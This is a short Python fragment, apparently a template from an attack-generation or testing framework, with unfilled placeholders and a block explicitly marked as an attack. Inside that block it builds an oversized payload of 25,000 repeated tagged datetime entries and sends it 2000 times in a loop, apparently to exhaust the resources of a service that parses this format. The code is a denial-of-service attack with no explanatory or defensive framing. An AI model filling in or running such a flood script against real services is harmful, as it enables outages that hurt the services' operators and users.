#{weigh_wrong}
# <attack>
#{forge}
_body = b'["v",["l",' + b",".join([b'["dt","2024-01-01T00:00:00+00:00"]'] * 25_000) + b"]]"
greet()
for _ in range(2000):
    send(_body)
wait()
# </attack>
